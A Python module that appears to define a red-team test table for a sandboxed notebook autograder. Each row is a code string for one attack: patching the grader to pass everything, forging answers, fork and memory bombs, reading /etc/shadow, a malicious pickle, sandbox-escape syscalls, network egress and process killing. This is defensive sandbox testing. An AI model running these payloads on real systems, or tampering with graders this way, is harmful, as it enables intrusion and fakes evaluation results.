"""What hostile, broken and unlucky cells do, one row each: the red team's table.

An attack's code defines `attack(*inputs)`. It becomes an exercise's cell, where the exercise's function or class makes
that call, or the cell itself does. What it sees that it must not, it prints behind `LEAK`; that it ran, it prints too.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One row.

    Attributes:
        name: what it is.
        code: defines `attack`; or, for `where` "whole", is the cell.
        status: one of these is deserved.
        where: `call`, when the exercise's code is called; `cell`, when the cell runs; `whole`.
        slug: the exercise that it needs; "" for any.
        share: of the exercise's points that it deserves.
        proof: stands in its log or in what its author is told: an attack that never ran proves nothing.
    """

    name: str
    code: str
    status: tuple[str, ...] = ("graded",)
    where: str = "call"
    slug: str = ""
    share: float = 0.0
    proof: str = "tried"


TOKEN = "red-team-token"  # in the name of every file that an attack tries to leave
GRADED, TIMEOUT, CRASHED = ("graded",), ("timeout",), ("crashed",)

# What attackers share: the job's seeds out of the frames below, and their own bytes in place of the answer.
TOOLS = '''
import os, sys, time, json

def the_job():
    frame = sys._getframe()
    while frame:
        found = frame.f_locals.get("job")
        if isinstance(found, dict) and "seeds" in found:
            return found
        frame = frame.f_back

def send(content):
    print("tried", flush=True)
    while content:
        content = content[os.write(3, content):]
    os._exit(0)

def properties():
    from mmlearn.course.registry import find
    return find(the_job()["slug"]).properties

def claim(make, state="probed"):
    """Answer as the grader's own code does, with results of one's own for every seed and property."""
    from mmlearn.course.grader import wire
    results = {seed: {p.name: make(p) for p in properties()} for seed in the_job()["seeds"]}
    send(wire.pack({"state": state, "detail": "", "notes": []}, results))

def headed(head, tensors=b"\\x02\\0\\0\\0\\0\\0\\0\\0{}"):
    head = head if isinstance(head, bytes) else json.dumps(head).encode()
    send(len(head).to_bytes(8, "little") + head + tensors)

def attempt(what, act):
    """Something that must fail; how it failed is printed, or that it did not."""
    try:
        got = act()
    except BaseException as error:
        print("tried", what, type(error).__name__, str(error)[:80], flush=True)
    else:
        print("LEAK", what, repr(got)[:200], flush=True)

WRONG = None
'''

# Taking over the judge.
JUDGE = [
    Attack(
        "patch torch's comparisons",
        """
def attack(*_):
    yes = lambda *a, **k: True
    for name in ("allclose", "equal", "isclose", "eq", "ne"):
        setattr(torch, name, yes)
    torch.testing.assert_close = yes
    for name in ("__eq__", "__ne__", "equal", "allclose", "all", "any"):
        setattr(torch.Tensor, name, yes)
    print("tried")
""",
        where="cell",
    ),
    Attack(
        "patch Case.record to know it all",
        """
def attack(*_):
    from mmlearn.course import probe
    def record(self, name, thunk):
        self.results[name] = True
        return True
    probe.Case.record = record
    probe.Case.derive = lambda self, name, *a: record(self, name, None)
    probe.Case.fill = lambda self, module, expected: module
    print("tried")
""",
        where="cell",
    ),
    Attack(
        "patch Exercise.judge, assess, grade",
        """
def attack(*_):
    from mmlearn.course.exercise import Exercise, Grade, Verdict
    Exercise.judge = lambda self, *a: tuple(Verdict(p, True) for p in self.properties)
    Exercise.assess = Exercise.grade = lambda self, *a: Grade(1.0, self.judge())
    print("tried")
""",
        where="cell",
    ),
    Attack(
        "patch difference, describe, check",
        """
def attack(*_):
    from mmlearn.course import judge, exercise
    judge.difference = exercise.difference = lambda *a: None
    judge.TOLERANCE = float("inf")
    import types
    sys.modules["mmlearn.course.checking"] = types.SimpleNamespace(check=lambda *a: True)
    print("tried")
""",
        where="cell",
    ),
    Attack(
        "replace and empty sys.modules",
        """
def attack(*_):
    import types
    for name in [name for name in sys.modules if name.startswith(("mmlearn", "json", "safetensors"))]:
        sys.modules[name] = types.ModuleType(name)
    print("tried")
    sys.modules.clear()
""",
        ("graded", "crashed"),
        "cell",
    ),
    Attack(
        "patch the packing of the answer",
        """
def attack(*_):
    from mmlearn.course.grader import wire
    real = wire.pack
    wire.pack = lambda head, answers: real({**head, "score": 1.0, "passed": True}, {s: {} for s in the_job()["seeds"]})
    print("tried")
""",
        where="cell",
    ),
    Attack(
        "IPython's events, transformers, magics, shell",
        """
def attack(*_):
    shell = get_ipython()
    attempt("events", lambda: shell.events.register("post_run_cell", print))
    attempt("ast", lambda: shell.ast_transformers.append(print))
    attempt("input", lambda: shell.input_transformers_post.append(print))
    attempt("set_trace", lambda: shell.set_trace())
    for answer in (shell.run_line_magic("run", "/etc/passwd"), shell.system("id"), shell.getoutput("id")):
        print("tried" if answer is None else "LEAK", answer)
""",
        where="cell",
    ),
    Attack(
        "`%load_ext`, `!cat`, `%%bash` in the cell",
        "%load_ext autoreload\n%run /etc/passwd\n!cat /etc/passwd\nlines = !ls /\nprint('tried', lines)\n"
        "def {name}(*a): return lines",
        where="whole",
        slug="function",
    ),
    Attack(
        "a whole cell under `%%time`, right",
        "%%time\n{honest}\nprint('tried')",
        where="whole",
        share=1.0,
    ),
]

# Ways to end.
ENDS = [
    Attack("os._exit(0)", "def attack(*_): print('tried', flush=True); os._exit(0)", CRASHED),
    Attack("os._exit(0) in the cell", "def attack(*_): print('tried', flush=True); os._exit(0)", CRASHED, "cell"),
    Attack("sys.exit(0)", "def attack(*_): print('tried'); sys.exit(0)", proof="SystemExit"),
    Attack("sys.exit(0) in the cell", "def attack(*_): print('tried'); sys.exit(0)", where="cell", proof="SystemExit"),
    Attack("KeyboardInterrupt", "def attack(*_): print('tried'); raise KeyboardInterrupt", proof="interrupted itself"),
    Attack("segfault", "def attack(*_): print('tried'); import ctypes; ctypes.string_at(0)", CRASHED),
    Attack("abort", "def attack(*_): print('tried'); os.abort()", CRASHED),
    Attack("endless loop", "def attack(*_):\n    print('tried')\n    while True: pass", TIMEOUT),
    Attack(
        "endless loop that catches everything",
        """
def attack(*_):
    import signal
    for number in range(1, 64):
        try: signal.signal(number, lambda *a: None)
        except (OSError, ValueError): pass
    print("tried")
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
        TIMEOUT,
        "cell",
    ),
    Attack("endless in C", "def attack(*_):\n    print('tried')\n    '1' in 'a' and 0 or sum(iter(int, 1))", TIMEOUT),
    Attack("sleep", "def attack(*_):\n    print('tried')\n    time.sleep(10**6)", TIMEOUT),
    Attack(
        "stops itself",
        "def attack(*_):\n    import signal\n    print('tried')\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
        "    time.sleep(10**6)",
        TIMEOUT,
    ),
    Attack("deep recursion", "def attack(*_): print('tried'); f = lambda: f(); f()", proof="RecursionError"),
    Attack(
        "deep recursion in C",
        "def attack(*_):\n    print('tried')\n    sys.setrecursionlimit(10**9)\n    f = lambda x: repr(x)\n    x = []\n"
        "    for _ in range(10**6): x = [x]\n    class E:\n"
        "        def __repr__(self): return repr(self)\n    repr(E())",
        ("crashed", "timeout"),
    ),
]

# Using up the machine.
BOMBS = [
    Attack(
        "fork bomb",
        "def attack(*_):\n    print('tried')\n    while True:\n        try: os.fork()\n        except OSError: pass",
        ("timeout", "crashed"),
    ),
    Attack(
        "thread bomb",
        """
def attack(*_):
    import threading
    count = 0
    try:
        while count < 1000:
            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
            count += 1
    except RuntimeError: pass
    print("tried" if count < 100 else "LEAK", count, "threads")
""",
    ),
    Attack(
        "memory bomb of Python", "def attack(*_):\n    print('tried')\n    x = bytearray(10**11)", proof="MemoryError"
    ),
    Attack(
        "memory bomb in small steps",
        "def attack(*_):\n    print('tried')\n    x = []\n    while True: x.append(bytearray(2**24))",
        proof="MemoryError",
    ),
    Attack("memory bomb of torch", "def attack(*_): print('tried'); return torch.ones(10**11)", proof="RuntimeError"),
    Attack(
        "memory that no process holds",
        """
def attack(*_):
    import ctypes
    libc = ctypes.CDLL(None)
    print("tried")
    for name, made in (("memfd", libc.memfd_create(b"x", 0)), ("shm", libc.shmget(0, 2**30, 0o1600))):
        if made != -1: print("LEAK", name)
""",
    ),
    Attack(
        "disk filler",
        """
def attack(*_):
    total = 0
    try:
        for number in range(1000):
            with open(f"filler-{number}", "wb") as file:
                for _ in range(16):
                    total += file.write(bytes(2**20))
    except OSError as error: print("tried", error)
    print("LEAK" if total > 2**27 else "tried", total)
""",
    ),
    Attack(
        "filler of inodes",
        """
def attack(*_):
    count = 0
    try:
        for count in range(100_000): os.mkdir(str(count))
    except OSError as error: print("tried", error)
    if count > 10_000: print("LEAK", count)
""",
    ),
    Attack(
        "output without end",
        "def attack(*_):\n    print('tried')\n    while True: os.write(1, b'x' * 65536)",
        TIMEOUT,
    ),
    Attack(
        "20 MB of output, right", "print('tried')\nos.write(2, bytes(20_000_000))\n{honest}", where="whole", share=1.0
    ),
    Attack("flood of the answers' pipe", "def attack(*_): send(bytes(2**27))", CRASHED),
    Attack(
        "closes all files, then wrong",
        "def attack(*_):\n    print('tried', flush=True)\n    os.closerange(0, 256)",
        CRASHED,
    ),
]

# Looking around.
SIGHT = [
    Attack(
        "walks the whole file system",
        """
def attack(*_):
    seen = set(os.listdir("/"))
    allowed = {"bin", "dev", "etc", "kit", "lib", "lib32", "lib64", "proc", "scratch", "sys", "tmp", "usr"}
    print("tried", sorted(seen - allowed))  # Python may stand anywhere
    for top in sorted(seen - {"proc"}):
        for where, folders, files in os.walk(f"/{top}"):
            where += "/"
            if where.endswith("-packages/"): folders[:] = [f for f in folders if f.startswith("mmlearn")]
            for name in [*folders, *files]:
                path = where + name
                bad = name.endswith(".ipynb") and "-packages/" not in path or "red-team" in name or name == "solutions"
                bad |= path.endswith("share/nbgrader/exchange")
                bad |= name in ("submitted", "gradebook.db") and "-packages/" not in path
                bad |= name == "mmlearn" and path != "/kit/mmlearn" and bool(os.listdir(path))
                bad |= name.startswith("vit.") and path != "/kit/mmlearn/course/catalog/vit.py"
                if bad: print("LEAK", path)
    print("walked")
""",
        proof="walked",
        where="cell",
    ),
    Attack(
        "reads master, solutions, lessons, home, exchange, passwords",
        """
def attack(*_):
    for path in {paths}: look(path)
    for path in ("/root", "/home", "/etc/passwd", "/etc/shadow", "/var", "/opt", "/srv", "/mnt", "/run",
                 "/usr/local/share", "/usr/share", "/sys/class", "/dev/shm", "/dev/mem", "/dev/vda"): look(path)
    for up in ("..", "../..", "../../../../../../.."):
        for name in ("work", "root", "home", "etc/passwd"): look(os.path.abspath(f"{up}/{name}"))

def look(path):
    # Only what leads to the folders of Python may be there.
    way = [os.path.abspath(p) for p in [*sys.path, torch.__file__]]
    leads = lambda p: any(w == p or w.startswith(p + "/") for w in way)
    if leads(path):
        found = [name for name in os.listdir(path) if not leads(f"{path}/{name}")]
        print("LEAK" if found else "tried", path, found)
    else:
        attempt(path, lambda: os.stat(path))
""",
        where="cell",
    ),
    Attack(
        "other processes in /proc",
        """
def attack(*_):
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    print("LEAK" if others else "tried", others)
    for name in ("root", "cwd", "exe", "mem", "environ", "maps", "fd"):
        attempt(name, lambda: os.listdir(f"/proc/{os.getppid()}/{name}"))
    attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
    attempt("kmsg", lambda: open("/proc/kmsg", "rb").read(1))
    print("LEAK" if len(os.environ) > 4 or "KEY" in str(os.environ) else "tried", sorted(os.environ))
    kinds = [os.readlink(f"/proc/self/fd/{fd}").split(":")[0] for fd in os.listdir("/proc/self/fd") if int(fd) < 90
             and os.path.lexists(f"/proc/self/fd/{fd}")]
    print("LEAK" if len(kinds) > 4 else "tried", kinds)
""",
    ),
    Attack(
        "root outside the walls by chroot, /proc, descriptors",
        """
def attack(*_):
    attempt("chroot", lambda: os.chroot("/scratch"))
    if os.getuid(): attempt("setuid", lambda: os.setuid(0))  # in a namespace of users one may be called root
    attempt("mknod", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)))
    attempt("sysrq", lambda: open("/proc/sysrq-trigger", "w"))
    attempt("sysctl", lambda: open("/proc/sys/kernel/core_pattern", "w"))
    import ctypes
    libc = ctypes.CDLL(None)
    for name, arguments in (("unshare", (0x10000000,)), ("unshare", (0x20000,)), ("setns", (0, 0)),
                            ("mount", (b"x", b"/scratch", b"tmpfs", 0, 0)), ("umount2", (b"/scratch", 2)),
                            ("ptrace", (16, 1, 0, 0))):
        print("tried" if getattr(libc, name)(*arguments) == -1 else "LEAK", name)
    if os.path.exists(os.path.join("/proc/1", "root", "etc/passwd")): print("LEAK root")
""",
    ),
]

# The reference of the very exercise.
REFERENCE = [
    Attack(
        "imports its own reference",
        """
def attack(*inputs):
    import importlib
    from mmlearn.course.registry import find
    exercise = find(the_job()["slug"])
    module, name = exercise.reference_path.split(":")
    attempt("reference", lambda: exercise.reference)
    attempt("import", lambda: getattr(importlib.import_module(module), name))
    for path in ("mmlearn.course.misconceptions.vit", "mmlearn.course.checking", "mmlearn.course.grader.marking",
                 "mmlearn.course.grader.kit", "mmlearn.data", "mmlearn.eval"):
        attempt(path, lambda: importlib.import_module(path))
""",
    ),
    Attack(
        "looks for its reference in memory",
        """
def attack(*inputs):
    import gc, inspect
    from mmlearn.course.registry import find
    name = find(the_job()["slug"]).reference_path.split(":")[1]
    own = lambda o: getattr(o, "__module__", "") == "__main__"
    found = [o for o in gc.get_objects() if getattr(type(o), "__name__", "") in ("function", "type")
             and getattr(o, "__name__", "") == name and not own(o)]
    for module in list(sys.modules.values()):
        value = getattr(module, "__dict__", {}).get(name)
        if value is not None and not own(value) and str(getattr(value, "__module__", "")).startswith("mmlearn"):
            found.append(value)
    print("LEAK" if found else "tried", found)
    text = " ".join(the_job()["modules"].values())
    print("LEAK in the job" if f"def {name}(" in text or f"class {name}(" in text else "tried")
    for source in the_job()["modules"]:
        __import__(source)
        if hasattr(sys.modules[source], name): print("LEAK", source)
""",
    ),
    Attack(
        "searches sys.path for a file that has it",
        """
def attack(*inputs):
    from mmlearn.course.registry import find
    name = find(the_job()["slug"]).reference_path.split(":")[1]
    print("tried", [p for p in sys.path if "-packages" not in p])
    for folder in sys.path:
        if "-packages" in folder or "python3" in folder: continue
        for where, _, files in os.walk(folder):
            for file in files:
                text = open(f"{where}/{file}", errors="replace").read()
                if f"def {name}(" in text or f"class {name}(nn" in text: print("LEAK", where, file)
    for folder in sys.path:
        inner = f"{folder}/mmlearn"
        if os.path.isdir(inner) and folder != "/kit" and os.listdir(inner): print("LEAK", folder)
    for needed in list(sys.modules):
        if needed.startswith("mmlearn") and hasattr(sys.modules[needed], name): print("LEAK", needed)
""",
    ),
]

# Out of the process.
OUTSIDE = [
    Attack(
        "writes outside its folder",
        """
def attack(*_):
    places = ["/", "/kit", "/kit/mmlearn", "/kit/mmlearn/course", "/usr/lib", "/usr/local/lib", "/lib", "/etc", "/dev",
              "/proc", "/proc/1", "/proc/sys/kernel", "/sys/devices/system/cpu", "/var/tmp", "/dev/shm", "/root",
              *sys.path, os.path.dirname(torch.__file__), *{paths}]
    for place in places:
        attempt(place, lambda: open(f"{place}/red-team-token", "w"))
        attempt(place, lambda: os.mkdir(f"{place}/red-team-token"))
    attempt("kit", lambda: open("/kit/mmlearn/course/judge.py", "a"))
    attempt("torch", lambda: open(torch.__file__, "a"))
    attempt("chmod", lambda: os.chmod("/dev/null", 0))
    attempt("unlink", lambda: os.unlink("/dev/null"))
    attempt("rename", lambda: os.rename("/kit", "/tik"))
    open("red-team-token", "w").write("here one may")
""",
    ),
    Attack(
        "network: TCP, UDP, DNS, raw, vsock, netlink",
        """
def attack(*_):
    import socket
    attempt("tcp", lambda: socket.create_connection(("1.1.1.1", 80), 1))
    attempt("loopback", lambda: socket.create_connection(("127.0.0.1", {port}), 1))
    attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))
    attempt("udp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2606:4700::1111", 53)))
    attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024)))
    attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
    attempt("urllib", lambda: __import__("urllib.request").request.urlopen("http://1.1.1.1", timeout=1))
""",
    ),
    Attack(
        "unix sockets of others, named and abstract",
        """
def attack(*_):
    import socket
    for place in ("/run/docker.sock", "/var/run/docker.sock", "\\0{abstract}", "\\0/tmp/.X11-unix/X0"):
        attempt(place, lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(place))
""",
    ),
    Attack(
        "signals to parent, 1, all",
        """
def attack(*_):
    import signal
    print("tried", flush=True)
    me = os.getpid()
    if me != 1: attempt("init", lambda: os.kill(1, signal.SIGKILL))
    for pid in (os.getppid(), {pid}, -1, *range(2, 400)):
        try:
            if pid: os.kill(pid, signal.SIGKILL)
        except OSError: pass
        else:
            if pid > 1: print("LEAK", pid)
    try: os.killpg(os.getpgrp(), signal.SIGCONT)
    except OSError: pass
""",
    ),
    Attack(
        "leaves files, keys, shared memory, queues, a daemon",
        """
def attack(*_):
    import ctypes, socket
    libc = ctypes.CDLL(None)
    for place in (".", "/tmp", "/dev/shm", "/scratch"):
        try: open(f"{place}/red-team-token", "w").write("hello")
        except OSError: pass
    libc.shmget(0x5EED, 4096, 0o1666)
    libc.msgget(0x5EED, 0o1666)
    libc.semget(0x5EED, 1, 0o1666)
    libc.mq_open(b"/red-team", 0o102, 0o666, None)
    libc.syscall(248, b"user", b"red-team", b"hello", 5, -4)
    print("tried", flush=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            end.bind("\\0red-team")
            end.listen()
            import signal
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                time.sleep(0.01)
                try: os.write(3, b"late")
                except OSError: pass
        os._exit(0)
    time.sleep(0.2)
""",
        ("graded", "crashed"),  # the daemon spoils its own answer
    ),
    Attack(
        "finds what the one before it left",
        """
def attack(*_):
    import ctypes, socket
    libc = ctypes.CDLL(None)
    for place in (".", "/tmp", "/dev/shm", "/scratch"):
        if os.path.exists(f"{place}/red-team-token"): print("LEAK file", place)
    print("tried", os.listdir("."))
    for name, found in (("shm", libc.shmget(0x5EED, 4096, 0)), ("msg", libc.msgget(0x5EED, 0)),
                        ("sem", libc.semget(0x5EED, 1, 0)), ("mq", libc.mq_open(b"/red-team", 2)),
                        ("key", libc.syscall(249, b"user", b"red-team", None, -4))):
        if found != -1: print("LEAK", name, found)
    attempt("abstract", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0red-team"))
    if os.path.exists("/proc/keys") and "red-team" in open("/proc/keys").read(): print("LEAK key")
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    if others: print("LEAK", others)
""",
    ),
]

# Forged answers. None is worth more than what it says.
FORGED = [
    Attack("answers random bytes", "def attack(*_): send(os.urandom(1000))", CRASHED),
    Attack("answers nothing but zeros", "def attack(*_): send(bytes(1000))", CRASHED),
    Attack("answers a wrong length", "def attack(*_): send((2**63).to_bytes(8, 'little') + b'{}')", CRASHED),
    Attack("answers a length of nothing", "def attack(*_): send(bytes(8))", CRASHED),
    Attack("answers JSON a million deep", "def attack(*_): headed(b'[' * 10**6)", CRASHED),
    Attack("answers 30 MB of JSON lists", "def attack(*_): headed(b'[' + b'[],' * 10**7 + b'[]]')", CRASHED),
    Attack("answers a number of a million digits", "def attack(*_): headed(b'9' * 10**6)", CRASHED),
    Attack("answers JSON that is no object", "def attack(*_): headed(b'[1, NaN, Infinity]')", CRASHED),
    Attack(
        "answers fields of wrong types",
        "def attack(*_): headed({'state': [], 'detail': 1, 'notes': {}, 'results': []})",
        CRASHED,
    ),
    Attack(
        "answers an unknown state",
        "def attack(*_): headed({'state': 'passed', 'detail': '', 'notes': [], 'results': {}})",
        CRASHED,
    ),
    Attack(
        "answers unknown kinds of results",
        "def attack(*_): headed({'state': 'probed', 'detail': '', 'notes': [], "
        "'results': {s: {p.name: ['pickle', 'x'] for p in properties()} for s in the_job()['seeds']}})",
        CRASHED,
    ),
    Attack(
        "answers safetensors with absurd offsets",
        """
def attack(*_):
    head = json.dumps({"a": {"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 2**62]}}).encode()
    headed({"state": "probed", "detail": "", "notes": [], "results": {}}, len(head).to_bytes(8, "little") + head)
""",
        CRASHED,
    ),
    Attack(
        "answers safetensors with overlaps and wrong sizes",
        """
def attack(*_):
    one = {"dtype": "F64", "shape": [2], "data_offsets": [0, 4]}
    head = json.dumps({"a": one, "b": one, "__metadata__": {"x": "y"}}).encode()
    tensors = len(head).to_bytes(8, "little") + head + bytes(4)
    headed({"state": "probed", "detail": "", "notes": [], "results": {}}, tensors)
""",
        CRASHED,
    ),
    Attack(
        "answers 20 MB of safetensors' head",
        """
def attack(*_):
    empty = ",".join(f'"{i}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}' for i in range(400_000))
    head = ("{" + empty + "}").encode()
    headed({"state": "probed", "detail": "", "notes": [], "results": {}}, len(head).to_bytes(8, "little") + head)
""",
        CRASHED,
    ),
    Attack(
        "answers a pickle",
        """
def attack(*_):
    import pickle
    class Evil:
        def __reduce__(self): return (os.system, ("touch /tmp/red-team-token",))
    send(pickle.dumps(Evil()))
""",
        CRASHED,
    ),
    Attack(
        "returns what acts when it is unpickled, printed, compared",
        """
class Evil(str):
    def act(self, *_): open("/tmp/red-team-token", "w"); return True
    __reduce__ = __reduce_ex__ = __eq__ = __ne__ = __bool__ = __len__ = __format__ = act
    __hash__ = lambda self: 0
    def __repr__(self): return "evil"
    __class__ = property(lambda self: Tensor)
def attack(*_):
    print("tried")
    return Evil()
""",
        where="call",
        slug="function",
    ),
    Attack("claims True for every property", "def attack(*_): claim(lambda p: True)"),
    Attack(
        "claims a ValueError for every property",
        "def attack(*_): from mmlearn.course.probe import Raised; claim(lambda p: Raised('ValueError', 'x'))",
    ),
    Attack(
        "claims each guess in turn",
        """
def attack(*_):
    from mmlearn.course.probe import Raised
    guesses = iter([0, 1, 0.0, "", b"", None, torch.zeros(5, 28, 12), torch.zeros(2), Raised("ValueError", "")] * 100)
    claim(lambda p: next(guesses))
""",
    ),
    Attack(
        "claims other seeds and properties",
        """
def attack(*_):
    from mmlearn.course.grader import wire
    extra = {"score": 1, "points": 100, "passed": True}
    send(wire.pack({"state": "probed", "detail": "", "notes": [], "score": 1}, {seed: extra for seed in range(100)}))
""",
    ),
    Attack(
        "claims kinds of errors that the judge does not know",
        "def attack(*_): from mmlearn.course.probe import Raised; claim(lambda p: Raised('', '', ''))",
        ("graded", "crashed"),
    ),
    Attack(
        "claims that nothing is written",
        "def attack(*_): from mmlearn.course.probe import Raised; claim(lambda p: Raised('NotImplementedError', ''))",
    ),
    Attack(
        "claims half characters, tags, formulas, a flood",
        """
def attack(*_):
    from mmlearn.course.grader import wire
    from mmlearn.course.probe import Raised
    text = "\\ud800<script>alert(1)</script>=1+1|[a](http://b)\\0\\x1b[31m" + "y" * 10**4
    wire._words = str
    claim(lambda p: Raised("Error", text, text))
""",
    ),
    Attack(
        "raises a message of half characters",
        "def attack(*_): print('tried'); raise ValueError('\\ud800<script>\\0')",
    ),
    Attack(
        "tells a long story",
        "def attack(*_):\n    long = 'z' * 10**5\n"
        "    headed({'state': 'not run', 'detail': long, 'notes': [long] * 9, 'results': {}})",
    ),
]

# What a function may give back.
TENSORS = [
    ("a huge expanded tensor", "torch.zeros(1).expand(10**6, 10**6)"),
    ("a meta tensor", "torch.zeros(5, 28, 12, device='meta')"),
    ("a huge meta tensor", "torch.zeros(2**30, 2**30, device='meta')"),
    ("a sparse tensor", "torch.zeros(5, 28, 12).to_sparse()"),
    ("a quantised tensor", "torch.quantize_per_tensor(torch.zeros(5, 28, 12), 1.0, 0, torch.qint8)"),
    ("a complex tensor", "torch.zeros(5, 28, 12, dtype=torch.complex128)"),
    ("float8", "torch.zeros(5, 28, 12).to(torch.float8_e4m3fn)"),
    ("a nested tensor", "torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])"),
    ("NaN", "torch.full((5, 28, 12), float('nan'))"),
    ("infinity", "torch.full((5, 28, 12), float('inf'))"),
    ("zero size, absurd lengths", "torch.zeros(0, 2**31, 2**31)"),
    ("ones", "torch.ones(5, 28, 12)"),
    ("a list", "[[1, 2], [3]]"),
    ("text", "'passed'"),
    ("None", "None"),
    ("numpy's array", "__import__('numpy').zeros((5, 28, 12))"),
    ("True", "True"),
    ("itself", "globals()"),
    ("an endless generator", "iter(int, 1)"),
]
RETURNED = [
    # The first meta tensor imports much, which may take longer than the tests allow.
    Attack(
        f"returns {name}",
        f"def attack(*_):\n    print('tried')\n    return {code}",
        ("graded", "timeout"),
        slug="function",
    )
    for name, code in TENSORS
]
RETURNED += [
    Attack(
        "returns a tensor class that agrees with everything",
        """
class Yes(Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
    __eq__ = __ne__ = lambda *a: True
    def __reduce__(self): return (os.mkdir, ("/tmp/red-team-token",))
    __reduce_ex__ = __reduce__
def attack(*_):
    print("tried")
    return torch.zeros(5, 28, 12).as_subclass(Yes)
""",
        slug="function",
    ),
    Attack(
        "outputs of the seeds that everybody can try",
        "",  # made by the test: the right results for the seeds 0 to 2
        slug="vit.patchify",
        where="whole",
    ),
]

# What is no solution, and no attack either.
BROKEN = [
    Attack("syntax error", "def {name}(:\n    pass", where="whole", proof="not Python"),
    Attack("null bytes", "{honest}\n\0", where="whole", proof="not Python"),
    Attack("bad indentation", "  def {name}(): pass\n pass", where="whole", proof="not Python"),
    Attack("ten thousand brackets", "{name} = " + "(" * 10_000 + ")" * 10_000, where="whole", proof="not Python"),
    Attack("a sum of 30 000 terms", "{name} = " + "+".join(["1"] * 30_000), ("graded", "crashed"), "whole", proof=""),
    Attack(
        "an enormous cell, right",
        "{honest}\n" + "# a comment, and another one\n" * 6000 + "print('tried')",
        where="whole",
        share=1.0,
    ),
    Attack(
        "a cell beyond all bounds",
        "{honest}\n" + "# a comment, and another one\n" * 10_000,
        where="whole",
        proof="characters",
    ),
    Attack("the name is a number", "{name} = 42", where="whole", proof="should be"),
    Attack(
        "the name is a class of the wrong kind",
        "class {name}:\n    pass",
        where="whole",
        slug="function",
        proof="should be a function",
    ),
    Attack(
        "uses a name of another cell",
        "def {name}(*a): return helper(*a)",
        where="whole",
        slug="function",
        proof="alone",
    ),
    Attack(
        "a statement fails, the rest is right", "draw(undefined)\n{honest}\nprint('tried')", where="whole", share=1.0
    ),
]

GROUPS = (JUDGE, ENDS, BOMBS, SIGHT, REFERENCE, OUTSIDE, FORGED, RETURNED, BROKEN)
ATTACKS = [attack for group in GROUPS for attack in group]

FUNCTION = """
def {name}(*inputs, **named):
    return attack(*inputs)
"""
CLASS = """
class {name}(nn.Module):
    def __init__(self, *inputs, **named):
        super().__init__()
        attack()
"""
IN_CELL = {
    False: "\ndef {name}(*inputs, **named):\n    return torch.zeros(1)\n",
    True: "\nclass {name}(nn.Module):\n    pass\n",
}


def cell(attack: Attack, name: str, is_class: bool, honest: str, facts: dict[str, str]) -> str:
    """The source of an exercise's cell that does this.

    Args:
        attack: the row.
        name: of the exercise's function or class.
        is_class: which of them.
        honest: the right cell.
        facts: of the machine, put in by name: `paths`, `port`, `abstract`, `pid`.
    """
    if attack.where == "whole":
        return attack.code.replace("{name}", name).replace("{honest}", honest)
    code = attack.code
    for fact, value in facts.items():
        code = code.replace(f"{{{fact}}}", value)
    if attack.where == "cell":
        return f"{TOOLS}\n{code}\nattack()\n" + IN_CELL[is_class].replace("{name}", name)
    return f"{TOOLS}\n{code}\n" + (CLASS if is_class else FUNCTION).replace("{name}", name)
